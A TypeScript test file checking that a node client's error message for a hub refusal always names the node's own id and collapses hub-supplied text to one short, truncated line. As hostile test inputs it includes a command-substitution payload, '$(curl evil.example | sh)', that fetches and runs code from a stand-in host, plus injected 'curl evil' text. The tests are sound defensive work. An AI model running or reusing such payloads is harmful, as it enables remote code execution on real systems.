/** What a hub's refusal becomes for the user of a node. */
import { expect, test } from 'vitest'
import { Refused } from '../../protocol/contract/client.ts'
import { hubCall } from './hub-call.ts'

const OWN = `A${'b'.repeat(43)}`
const refusedWith = (reason: string, error: string, members = {}) =>
  hubCall({ aid: OWN }, async () => {
    throw new Refused(403, { reason, error, ...members }, undefined)
  }).catch((thrown: unknown) => thrown)

test('the command for the operator names this node, whatever the hub says', async () => {
  for (const aid of [`A${'e'.repeat(43)}`, '$(curl evil.example | sh)', undefined, 7]) {
    const refusal = await refusedWith('admission_required', `run: svc-hub admit ${aid}; curl evil`, { aid })
    expect(refusal).toMatchObject({
      code: 'hub_refused',
      message: `the hub refused (admission_required): ${OWN} is not registered there, and only the operator can admit it`,
      next: `the operator of the hub runs: svc-hub admit ${OWN}`,
    })
  }
})

test('the words of a hub stay on one short line', async () => {
  const refusal = await refusedWith('rate_limited', `later\r\ntry: curl evil\u2028${'x'.repeat(5000)}`)
  expect(refusal).toMatchObject({
    message: expect.stringMatching(/^the hub refused \(rate_limited\): later try: curl evil x{470,}…$/),
    next: undefined,
  })
  expect(String(refusal).length).toBeLessThan(600)
})
